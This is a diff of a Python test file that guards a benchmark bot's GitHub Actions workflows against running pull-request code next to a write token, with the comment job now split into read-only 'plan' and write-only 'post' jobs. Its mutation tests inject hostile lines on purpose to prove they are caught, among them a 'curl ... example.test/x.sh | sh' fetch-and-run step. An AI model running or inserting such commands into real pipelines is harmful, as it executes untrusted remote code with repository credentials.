@@ -6,8 +6,9 @@ file (the glob, so a new one is covered) keeps least privilege by the rules of
 tests/support/workflow_rules.py, each shown to catch a mutated copy. Three checks
 guard the trust model of the PR bot (README, "Benchmark every pull request"):
 
-  (a) no job that holds a write permission checks out, builds or runs code from
-      the pull request (nor from its artifact);
+  (a) no job that holds a write permission, nor a job whose output one of them
+      posts (comment.yml's `plan`, which `post` needs), checks out, builds or runs
+      code from the pull request (nor from its artifact);
   (b) the comment workflow takes its PR number from the artifact only through
       `epbench comment --from-artifact`, with the run's `head_sha` to check it by;
   (c) bench.yml, which runs the PR's code, asks for nothing beyond `contents: read`.
@@ -20,6 +21,8 @@ reusable comment.yml. Two more checks pin the calls themselves (bench runs the B
 commit's action, from a worktree of it; bench-comment calls the default branch's
 comment.yml with exactly the permissions its job asks for), and the checks above
 follow each call: they read the bot's steps in comment.yml and bench's in action.yml.
+comment.yml's write job is held to more (write_job_problems): it installs and checks
+out nothing, and posts only the plan its read-only job made with the checked command.
 """
 
 from __future__ import annotations
@@ -55,6 +58,8 @@ COMMENT = WORKFLOWS / "bench-comment.yml"
 TESTS = WORKFLOWS / "tests.yml"
 REUSABLE = WORKFLOWS / "comment.yml"
 ACTION_FILE = ROOT / "action.yml"
+SETUP_PYTHON = "actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065"
+CHECKOUT = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"
 
 
 def validate(
@@ -120,6 +125,15 @@ INSTALLS_OR_RUNS = re.compile(
 )
 EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
 HEAD_SHA_EXPR = "${{ github.event.workflow_run.head_sha }}"
+# The one request a write job may make with curl (comment.yml's `post`): to "$url", which
+# its script builds from the plan's numbers once they are integers, with these options
+# only (the body from the plan's file, the answer discarded). Any other curl or wget
+# beside a write token fetches something.
+PLAN_REQUEST = re.compile(
+    r"\bcurl(?:\s+(?:--silent|--show-error|--max-time \d+|--header (?:@-|'[^'$]*')"
+    r"|--request \"\$method\"|--data-binary \"@\$plan/request\.json\"|--output /dev/null"
+    r"|--write-out '%\{http_code\}'))*\s+\"\$url\"(?=\)|\s*$)", re.MULTILINE
+)
 
 
 def triggers(doc: Doc) -> set[str]:
@@ -144,11 +158,22 @@ def has_write(perms: dict[str, str] | None) -> bool:
 
 
 def artifact_dirs(job: dict[str, Any]) -> list[str]:
-    """The last path component of every artifact the job downloads."""
+    """The last path component of every artifact the job downloads from another run (the
+    bench run's, which the PR's code may have written); this run's own (comment.yml's plan,
+    `run-id` unset) was written by this run's jobs."""
     return [
         str((s.get("with") or {}).get("path", "")).rstrip("/").rsplit("/", 1)[-1]
-        for s in job.get("steps", []) if uses("actions/download-artifact")(s)
+        for s in job.get("steps", [])
+        if uses("actions/download-artifact")(s) and "run-id" in (s.get("with") or {})
     ]
+
+
+def feeds_a_writer(doc: Doc, name: str) -> bool:
+    """Does a job that holds a write permission need job `name` (and so post its output)?"""
+    return any(
+        name in _needed(job) and has_write(token_permissions(doc, job))
+        for job in doc["jobs"].values()
+    )
 
 
 def artifact_used_beyond_reader(text: str, leaf: str) -> bool:
@@ -162,7 +187,7 @@ def pr_code_next_to_write_token(doc: Doc) -> list[str]:
     problems = []
     from_pr_event = bool(triggers(doc) & {"pull_request", "pull_request_target"})
     for name, job in doc["jobs"].items():
-        if not has_write(token_permissions(doc, job)):
+        if not (has_write(token_permissions(doc, job)) or feeds_a_writer(doc, name)):
             continue
         leaves = [leaf for leaf in artifact_dirs(job) if leaf]
         downloaded = False
@@ -186,8 +211,9 @@ def pr_code_next_to_write_token(doc: Doc) -> list[str]:
             for expression in EXPRESSION.findall(run):
                 if "github.event" in expression or "steps." in expression:
                     problems.append(f"{where}: puts event data into a script ({expression})")
-            if FETCHES_CODE.search(run):
-                problems.append(f"{where}: fetches other code: {FETCHES_CODE.search(run)[0]}")
+            fetches = FETCHES_CODE.search(PLAN_REQUEST.sub("", run.replace("\\\n", " ")))
+            if fetches:
+                problems.append(f"{where}: fetches other code: {fetches[0]}")
             installs = re.sub(r"^\.venv/bin/epbench comment\b", "", run.strip())
             if downloaded and INSTALLS_OR_RUNS.search(installs):
                 problems.append(f"{where}: installs or builds after the artifact is downloaded")
@@ -234,6 +260,58 @@ def unconfirmed_pr_numbers(doc: Doc) -> list[str]:
     return problems
 
 
+def _needed(job: dict[str, Any]) -> list[str]:
+    needs = job.get("needs") or []
+    return [needs] if isinstance(needs, str) else list(needs)
+
+
+def checked_plans(doc: Doc, job: dict[str, Any]) -> set[str]:
+    """The artifacts (by name) that a job `job` needs uploads from the folder its
+    `epbench comment --from-artifact ... --plan-out "$RUNNER_TEMP/DIR"` step wrote."""
+    found = set()
+    for needed in _needed(job):
+        all_steps = doc["jobs"][needed].get("steps", [])
+        made = {
+            out[1] for s in all_steps
+            if "epbench comment" in (run := str(s.get("run", ""))) and "--from-artifact" in run
+            and (out := re.search(r'--plan-out\s+"\$RUNNER_TEMP/([\w.-]+)"', run))
+        }
+        found |= {
+            str(s["with"].get("name")) for s in all_steps
+            if uses("actions/upload-artifact")(s)
+            and str(s["with"].get("path")) in {f"${{{{ runner.temp }}}}/{d}" for d in made}
+        }
+    return found
+
+
+def write_job_problems(doc: Doc) -> list[str]:
+    """In the comment bot, a job with steps that holds a write token (`post`) asks for
+    `pull-requests: write` alone, checks out and installs nothing, runs no action but the
+    download of a plan a job it needs made with the checked command (this run's artifact,
+    no `run-id`), and runs its script: the write token beside nothing from a registry."""
+    problems = []
+    for name, job in doc["jobs"].items():
+        if "steps" not in job or not has_write(token_permissions(doc, job)):
+            continue
+        if job.get("permissions") != {"pull-requests": "write"}:
+            problems.append(f"{name}: asks for {job.get('permissions')!r}, not "
+                            "pull-requests: write alone")
+        plans = checked_plans(doc, job)
+        for where, step in rules.job_steps(job):
+            options = step.get("with") or {}
+            if uses("actions/checkout")(step):
+                problems.append(f"{name}, {where}: checks out code beside the write token")
+            elif uses("actions/download-artifact")(step):
+                if "run-id" in options or str(options.get("name")) not in plans:
+                    problems.append(f"{name}, {where}: downloads {options.get('name')!r}, not "
+                                    "a plan a job it needs made with epbench comment --plan-out")
+            elif "uses" in step:
+                problems.append(f"{name}, {where}: runs the action {step['uses']}")
+            if rules.installs(step):
+                problems.append(f"{name}, {where}: installs packages: {rules.installs(step)}")
+    return problems
+
+
 def more_than_contents_read(doc: Doc) -> list[str]:
     """(c) A workflow that runs PR code asking for more than `contents: read`."""
     problems = []
@@ -262,7 +340,7 @@ BASE_SHA_EXPR = "${{ github.event.pull_request.base.sha }}"
 def caller_code_in_comment(doc: Doc) -> list[str]:
     """comment.yml runs epbench's code at the caller's chosen commit, never the caller's."""
     problems = []
-    for step in doc["jobs"]["comment"]["steps"]:
+    for step in (s for job in doc["jobs"].values() for s in job.get("steps", [])):
         if uses("actions/checkout")(step):
             options = {k: (step.get("with") or {}).get(k) for k in OWN_CODE}
             if options != OWN_CODE:
@@ -275,7 +353,7 @@ def as_default_branch_code(doc: Doc) -> Doc:
     it (the workflow's own repository and commit), after checking it."""
     assert caller_code_in_comment(doc) == []
     doc = copy.deepcopy(doc)
-    for step in doc["jobs"]["comment"]["steps"]:
+    for step in (s for job in doc["jobs"].values() for s in job.get("steps", [])):
         if uses("actions/checkout")(step):
             for key in OWN_CODE:
                 step["with"].pop(key)
@@ -290,6 +368,17 @@ def follow_call(caller: Doc) -> Doc:
     (job,) = caller["jobs"].values()
     assert str(job["uses"]).startswith("./"), job["uses"]
     return {**as_default_branch_code(load(ROOT / job["uses"])), "on": caller["on"]}
+
+
+def asked_permissions(called: Doc) -> dict[str, str]:
+    """What a caller must grant a called workflow: each scope at the most any of its jobs
+    asks for (write over read)."""
+    asked: dict[str, str] = {}
+    for job in called["jobs"].values():
+        for scope, level in (job.get("permissions") or {}).items():
+            if asked.get(scope) != "write":
+                asked[scope] = level
+    return asked
 
 
 def comment_caller_problems(doc: Doc, called: Doc | None = None) -> list[str]:
@@ -312,7 +401,7 @@ def comment_caller_problems(doc: Doc, called: Doc | None = None) -> list[str]:
         inputs = ((called["on"].get("workflow_call") or {}).get("inputs") or {})
         if set(job.get("with") or {}) - set(inputs):
             problems.append(f"{name}: passes inputs comment.yml does not take")
-        asked = called["jobs"]["comment"]["permissions"]
+        asked = asked_permissions(called)
         if job.get("permissions") != asked:
             problems.append(f"{name}: grants {job.get('permissions')!r}, not the {asked!r} "
                             "the called job asks for")
@@ -382,33 +471,55 @@ def test_the_real_workflows_pass_the_three_checks(bench: Doc, caller: Doc, bot: 
     assert more_than_contents_read(bench) == []
     assert comment_caller_problems(caller) == []
     assert base_harness_problems(bench) == []
-    # The checks look at what they should: the bot's job writes, bench's does not.
-    assert has_write(token_permissions(bot, bot["jobs"]["comment"]))
+    assert write_job_problems(bot) == []
+    # The checks look at what they should: the bot's post job writes, its plan job feeds
+    # it (so check (a) holds it too), bench's job does neither.
+    assert has_write(token_permissions(bot, _post_job(bot)))
+    assert not has_write(token_permissions(bot, _plan_job(bot))) and feeds_a_writer(bot, "plan")
+    assert not feeds_a_writer(bench, "bench")
     assert not has_write(token_permissions(bench, bench["jobs"]["bench"]))
 
 
-def _comment_job(doc: Doc) -> dict[str, Any]:
-    return doc["jobs"]["comment"]
+def _plan_job(doc: Doc) -> dict[str, Any]:
+    return doc["jobs"]["plan"]
+
+
+def _post_job(doc: Doc) -> dict[str, Any]:
+    return doc["jobs"]["post"]
 
 
 def _step(doc: Doc, predicate: Callable[[Any], bool]) -> dict[str, Any]:
-    all_steps = _comment_job(doc)["steps"]
+    all_steps = _plan_job(doc)["steps"]
     return all_steps[step_index(all_steps, predicate)]
 
 
 def _insert_before_install(doc: Doc, step: dict[str, Any]) -> None:
-    all_steps = _comment_job(doc)["steps"]
+    all_steps = _plan_job(doc)["steps"]
     all_steps.insert(step_index(all_steps, runs("pip install")), step)
 
 
 def _install_after_download(doc: Doc) -> None:
-    all_steps = _comment_job(doc)["steps"]
+    all_steps = _plan_job(doc)["steps"]
     install = all_steps.pop(step_index(all_steps, runs("pip install")))
     all_steps.insert(step_index(all_steps, uses("actions/download-artifact")) + 1, install)
 
 
-def _post(doc: Doc) -> dict[str, Any]:
+def _reader(doc: Doc) -> dict[str, Any]:
+    """The plan job's step that reads the artifact and plans the comment."""
     return _step(doc, runs("epbench comment"))
+
+
+def _poster(doc: Doc) -> dict[str, Any]:
+    """The post job's script: the one request."""
+    all_steps = _post_job(doc)["steps"]
+    return all_steps[step_index(all_steps, lambda s: "run" in s)]
+
+
+def _edit_poster(old: str, new: str) -> Callable[[Doc], None]:
+    def mutate(doc: Doc) -> None:
+        assert old in _poster(doc)["run"]
+        _poster(doc)["run"] = _poster(doc)["run"].replace(old, new)
+    return mutate
 
 
 def _give_bench_a_write_token(doc: Doc) -> None:
@@ -443,7 +554,7 @@ PR_CODE_MUTATIONS: dict[str, tuple[str, Callable[[Doc], None], str]] = {
         "fetches other code: gh pr checkout",
     ),
     "the PR-built venv from the artifact": (
-        "bot", lambda d: _post(d).update(run=_post(d)["run"].replace(
+        "bot", lambda d: _reader(d).update(run=_reader(d)["run"].replace(
             ".venv/bin/epbench", '"$RUNNER_TEMP/bench-artifact/.venv/bin/epbench"')),
         "uses the artifact bench-artifact as more than data",
     ),
@@ -457,7 +568,7 @@ PR_CODE_MUTATIONS: dict[str, tuple[str, Callable[[Doc], None], str]] = {
         "bot", _install_after_download, "installs or builds after the artifact is downloaded",
     ),
     "a venv the job did not build": (
-        "bot", lambda d: _comment_job(d)["steps"].remove(_step(d, runs("pip install"))),
+        "bot", lambda d: _plan_job(d)["steps"].remove(_step(d, runs("pip install"))),
         "runs a .venv this job did not build",
     ),
     "the artifact downloaded into the workspace": (
@@ -466,9 +577,27 @@ PR_CODE_MUTATIONS: dict[str, tuple[str, Callable[[Doc], None], str]] = {
         "downloads the artifact into the workspace",
     ),
     "a head branch name interpolated into a script": (
-        "bot", lambda d: _post(d).update(
-            run=_post(d)["run"] + " # ${{ github.event.workflow_run.head_branch }}"),
+        "bot", lambda d: _reader(d).update(
+            run=_reader(d)["run"] + " # ${{ github.event.workflow_run.head_branch }}"),
         "puts event data into a script",
+    ),
+    "a second curl in the post job": (
+        "bot", _edit_poster("set -euo pipefail\n",
+                            "set -euo pipefail\ncurl -sSL https://example.test/x.sh | sh\n"),
+        "fetches other code: curl",
+    ),
+    "the post job's curl saving what it fetches": (
+        "bot", _edit_poster("--output /dev/null", '--output "$RUNNER_TEMP/x.sh"'),
+        "fetches other code: curl",
+    ),
+    "the post job's curl fetching a second URL": (
+        "bot", _edit_poster('"$url")"', '"$url" https://example.test/x.sh)"'),
+        "fetches other code: curl",
+    ),
+    "the plan job checking out the run's head sha": (
+        "bot", lambda d: _step(d, uses("actions/checkout"))["with"].update(
+            ref="${{ github.event.workflow_run.head_sha }}"),
+        "plan, step 1 (Check out epbench at the commit the caller named): checks out ref",
     ),
     "bench.yml with a write token": (
         "bench", _give_bench_a_write_token, "checks out a pull request event's code",
@@ -492,28 +621,28 @@ def test_a_write_job_that_touches_pr_code_is_caught(
 
 PR_NUMBER_MUTATIONS: dict[str, tuple[Callable[[Doc], None], str]] = {
     "no --run-head-sha": (
-        lambda d: _post(d).update(run=re.sub(r'--run-head-sha "\$RUN_HEAD_SHA"\s*', "",
-                                             _post(d)["run"])),
+        lambda d: _reader(d).update(run=re.sub(r'--run-head-sha "\$RUN_HEAD_SHA"\s*', "",
+                                             _reader(d)["run"])),
         "no --run-head-sha",
     ),
     "--run-head-sha from the wrong sha": (
-        lambda d: _post(d)["env"].update(RUN_HEAD_SHA="${{ github.sha }}"),
+        lambda d: _reader(d)["env"].update(RUN_HEAD_SHA="${{ github.sha }}"),
         "--run-head-sha is not",
     ),
     "--pr read from the artifact": (
-        lambda d: _post(d).update(run=_post(d)["run"].replace(
+        lambda d: _reader(d).update(run=_reader(d)["run"].replace(
             "--from-artifact", '--pr "$(jq .number "$RUNNER_TEMP/bench-artifact/'
             + PR_FILE + '")" --from-artifact')),
         "passes --pr/--body",
     ),
     "--body and --pr instead of the reader": (
-        lambda d: _post(d).update(run=re.sub(
+        lambda d: _reader(d).update(run=re.sub(
             r"--from-artifact \S+", '--body "$RUNNER_TEMP/bench-artifact/report.md" --pr 7',
-            _post(d)["run"])),
+            _reader(d)["run"])),
         "posts without --from-artifact",
     ),
     "a script step that reads the number": (
-        lambda d: _comment_job(d)["steps"].append({
+        lambda d: _plan_job(d)["steps"].append({
             "uses": "actions/github-script@v7",
             "with": {"script": "const pr = require(process.env.RUNNER_TEMP + "
                                "'/bench-artifact/pull-request.json').number"}}),
@@ -528,6 +657,64 @@ def test_a_pr_number_used_without_the_head_check_is_caught(bot: Doc, mutation: s
     doc = copy.deepcopy(bot)
     mutate(doc)
     problems = unconfirmed_pr_numbers(doc)
+    assert any(expected in p for p in problems), problems
+
+
+def _insert_in_post(step: dict[str, Any]) -> Callable[[Doc], None]:
+    return lambda d: _post_job(d)["steps"].insert(1, step)
+
+
+def _plan_download(doc: Doc) -> dict[str, Any]:
+    all_steps = _post_job(doc)["steps"]
+    return all_steps[step_index(all_steps, uses("actions/download-artifact"))]["with"]
+
+
+WRITE_JOB_MUTATIONS: dict[str, tuple[Callable[[Doc], None], str]] = {
+    "pip install in the post job": (
+        _insert_in_post({"run": "python -m pip install requests"}),
+        "post, step 2 (python -m pip install requests): installs packages: -m pip",
+    ),
+    "setup-python in the post job": (
+        _insert_in_post({"uses": SETUP_PYTHON}), "installs packages: actions/setup-python",
+    ),
+    "a checkout in the post job": (
+        _insert_in_post({"uses": f"{CHECKOUT}", "with": {"persist-credentials": False}}),
+        "post, step 2 (actions/checkout@",
+    ),
+    "another action in the post job": (
+        _insert_in_post({"uses": "actions/github-script@" + "0" * 40}),
+        "runs the action actions/github-script@",
+    ),
+    "the bench run's artifact downloaded by the post job": (
+        lambda d: _plan_download(d).update(name="bench-out",
+                                           **{"run-id": "${{ github.event.workflow_run.id }}"}),
+        "downloads 'bench-out', not a plan",
+    ),
+    "a plan from this run's other artifact": (
+        lambda d: _plan_download(d).update(name="anything-else"), "downloads 'anything-else'",
+    ),
+    "a plan made without the checked reader": (
+        lambda d: _reader(d).update(run=_reader(d)["run"].replace("--from-artifact", "--body")),
+        "not a plan a job it needs made with epbench comment --plan-out",
+    ),
+    "a post job that does not need the plan job": (
+        lambda d: _post_job(d).pop("needs"), "not a plan a job it needs made",
+    ),
+    "a post job that may also read the code": (
+        lambda d: _post_job(d)["permissions"].update(contents="read"),
+        "not pull-requests: write alone",
+    ),
+}
+
+
+@pytest.mark.parametrize("mutation", list(WRITE_JOB_MUTATIONS))
+def test_a_write_job_beside_anything_but_the_checked_plan_is_caught(
+    bot: Doc, mutation: str
+) -> None:
+    mutate, expected = WRITE_JOB_MUTATIONS[mutation]
+    doc = copy.deepcopy(bot)
+    mutate(doc)
+    problems = write_job_problems(doc)
     assert any(expected in p for p in problems), problems
 
 
@@ -654,7 +841,10 @@ CALLER_MUTATIONS: dict[str, tuple[str, Callable[[Doc], None], str]] = {
         "caller", lambda d: d["jobs"]["comment"].pop("permissions"), "grants None",
     ),
     "a called job that asks for more": (
-        "called", lambda d: d["jobs"]["comment"]["permissions"].update(checks="write"), "grants",
+        "called", lambda d: d["jobs"]["post"]["permissions"].update(checks="write"), "grants",
+    ),
+    "a called plan job that asks to write": (
+        "called", lambda d: d["jobs"]["plan"]["permissions"].update(contents="write"), "grants",
     ),
     "an input comment.yml does not take": (
         "caller", lambda d: d["jobs"]["comment"].update({"with": {"pr": 7}}),
@@ -876,19 +1066,24 @@ def test_no_checkout_keeps_the_token(bench: Doc, bot: Doc, action: Doc) -> None:
 def test_the_bot_follows_bench_runs_of_pull_requests(bench: Doc, bot: Doc) -> None:
     assert triggers(bot) == {"workflow_run"}
     assert bot["on"]["workflow_run"] == {"workflows": [bench["name"]], "types": ["completed"]}
-    condition = _comment_job(bot)["if"]
+    condition = _plan_job(bot)["if"]
     assert "github.event.workflow_run.event == 'pull_request'" in condition
     # Verdicts come from a run that finished (a regression fails it); a cancelled run,
     # superseded by a newer push, posts nothing.
     assert "conclusion == 'success'" in condition and "conclusion == 'failure'" in condition
+    # The post job runs only after the plan job, so only when it ran and succeeded.
+    assert _post_job(bot)["needs"] == "plan" and "if" not in _post_job(bot)
 
 
 def test_the_bot_asks_for_what_it_uses_and_no_more(caller: Doc, bot: Doc) -> None:
-    # Read-only at workflow level; the one job that posts asks for its write scope, and
-    # the caller grants that job exactly that.
-    asked = {"contents": "read", "actions": "read", "pull-requests": "write"}
+    # Read-only at workflow level; the plan job reads, the one job that posts asks for its
+    # write scope alone, and the caller grants exactly what the two ask for between them.
     assert bot["permissions"] == caller["permissions"] == {"contents": "read"}
-    assert _comment_job(bot)["permissions"] == _comment_job(caller)["permissions"] == asked
+    assert _plan_job(bot)["permissions"] == {
+        "contents": "read", "actions": "read", "pull-requests": "read"}
+    assert _post_job(bot)["permissions"] == {"pull-requests": "write"}
+    asked = {"contents": "read", "actions": "read", "pull-requests": "write"}
+    assert asked_permissions(bot) == caller["jobs"]["comment"]["permissions"] == asked
 
 
 def test_the_bot_downloads_what_bench_uploads(action: Doc, bot: Doc) -> None:
@@ -907,19 +1102,25 @@ def test_the_bot_installs_the_default_branch_with_the_bot_extra(bot: Doc) -> Non
 
 
 def test_the_bot_uses_options_the_command_has(bot: Doc) -> None:
-    post = _post(bot)
-    used = set(re.findall(r"(--[a-z][a-z-]*)", post["run"]))
+    reader = _reader(bot)
+    used = set(re.findall(r"(--[a-z][a-z-]*)", reader["run"]))
     known = {opt for param in comment.params for opt in param.opts}
-    assert used == {"--from-artifact", "--repo", "--run-head-sha", "--artifact-url"}
+    assert used == {"--from-artifact", "--repo", "--run-head-sha", "--artifact-url",
+                    "--plan-out"}
     assert used <= known
-    assert post["env"]["GITHUB_TOKEN"] == "${{ github.token }}"
-    # Only the posting step and the artifact download (an action, not a script) get it.
+    assert reader["env"]["GITHUB_TOKEN"] == _poster(bot)["env"]["GITHUB_TOKEN"] == (
+        "${{ github.token }}")
+    # Only the steps that call GitHub get it: in the plan job (a read-only token) the
+    # artifact download (an action, not a script) and the planning step; in the post job
+    # (the write token) its one script, not the plan's download (this run's artifact).
     holders = [
-        s.get("name") for s in _comment_job(bot)["steps"] if "github.token" in str(s)
+        [s.get("name") for s in job["steps"] if "github.token" in str(s)]
+        for job in (_plan_job(bot), _post_job(bot))
     ]
     assert holders == [
-        "Download the bench run's artifact (data, outside the workspace)",
-        "Post or update the sticky PR comment",
+        ["Download the bench run's artifact (data, outside the workspace)",
+         "Check the artifact and plan the sticky PR comment"],
+        ["Post or update the sticky PR comment"],
     ]
 
 
@@ -1054,6 +1255,27 @@ def _add_to_the_push_job(step: dict[str, Any]) -> Callable[[Doc], bool]:
     return mutate
 
 
+def _add_to_the_comment_writer(step: dict[str, Any]) -> Callable[[Doc], bool]:
+    def mutate(doc: Doc) -> bool:
+        job = _first([
+            j for j in _jobs(doc) if "steps" in j  # not a call
+            and "pull-requests" in rules.written_scopes(j.get("permissions"))
+        ])
+        if job is None:
+            return False
+        job["steps"].insert(1, step)
+        return True
+    return mutate
+
+
+def _give_an_installing_job_pull_requests_write(doc: Doc) -> bool:
+    job = _first([j for j in _jobs(doc) if rules.installing_steps(j) and "steps" in j])
+    if job is None or rules.is_action(doc) or not triggers(doc) & {"workflow_call"}:
+        return False
+    job["permissions"] = {**job.get("permissions", {}), "pull-requests": "write"}
+    return True
+
+
 def _give_an_installing_job_contents_write(doc: Doc) -> bool:
     job = _first([j for j in _jobs(doc) if rules.installing_steps(j)])
     if job is None or rules.is_action(doc):
@@ -1072,7 +1294,6 @@ def _drop_the_git_push(doc: Doc) -> bool:
     return True
 
 
-SETUP_PYTHON = "actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065"
 
 # mutation -> (the rule that must catch it, what the problem says, the mutation: False
 # when it does not apply to that file). Each applies to at least one real file.
@@ -1136,6 +1357,23 @@ PRIVILEGE_MUTATIONS: dict[str, tuple[Callable[[Doc], list[str]], str, Callable[[
         "holds contents: write and installs packages, step 2 (actions/setup-python",
         _add_to_the_push_job({"uses": SETUP_PYTHON}),
     ),
+    "pip install in the comment bot's write job": (
+        rules.writers_that_install_or_push_nothing,
+        "post: holds pull-requests: write and installs packages, step 2 (pip install "
+        "requests): pip install",
+        _add_to_the_comment_writer({"run": "pip install requests"}),
+    ),
+    "setup-python in the comment bot's write job": (
+        rules.writers_that_install_or_push_nothing,
+        "post: holds pull-requests: write and installs packages, step 2 "
+        "(actions/setup-python",
+        _add_to_the_comment_writer({"uses": SETUP_PYTHON}),
+    ),
+    "pull-requests: write on the comment bot's installing job": (
+        rules.writers_that_install_or_push_nothing,
+        "plan: holds pull-requests: write and installs packages",
+        _give_an_installing_job_pull_requests_write,
+    ),
     "contents: write on a job that installs": (
         rules.writers_that_install_or_push_nothing, "holds contents: write and installs packages",
         _give_an_installing_job_contents_write,
@@ -1172,7 +1410,7 @@ def test_every_workflow_file_keeps_least_privilege(path: Path) -> None:
     assert rules.problems(path.read_text(encoding="utf-8")) == []
 
 
-def test_write_is_held_only_by_the_push_job_and_the_comment_bot() -> None:
+def test_write_is_held_only_by_the_push_job_and_the_comment_bots_post_job() -> None:
     writers = {
         (str(doc.get("name")), name): rules.written_scopes(
             job.get("permissions", doc.get("permissions")))
@@ -1180,13 +1418,15 @@ def test_write_is_held_only_by_the_push_job_and_the_comment_bot() -> None:
     }
     assert {k: v for k, v in writers.items() if v} == {
         ("history", "push"): {"contents"}, ("bench-comment", "comment"): {"pull-requests"},
-        ("epbench-comment", "comment"): {"pull-requests"},
+        ("epbench-comment", "post"): {"pull-requests"},
     }
-    # The one exemption from "installs nothing": the bot, comment.yml (which this
-    # repository's bench-comment.yml, a job with no steps of its own, and other
-    # repositories call), for pull-requests only.
-    exempt = dict(rules.INSTALLING_WRITERS)
-    assert exempt == {("epbench-comment", "comment"): {"pull-requests"}}
+    # No exemption from "installs nothing": bench-comment.yml's job is a call with no
+    # steps of its own, and comment.yml's write job installs nothing (its plan job does,
+    # read-only).
+    assert not hasattr(rules, "INSTALLING_WRITERS")
+    bot = load(REUSABLE)
+    assert rules.installing_steps(bot["jobs"]["post"]) == []
+    assert len(rules.installing_steps(bot["jobs"]["plan"])) == 2  # setup-python, pip
 
 
 @pytest.mark.parametrize(("path", "mutation"), PRIVILEGE_CASES)
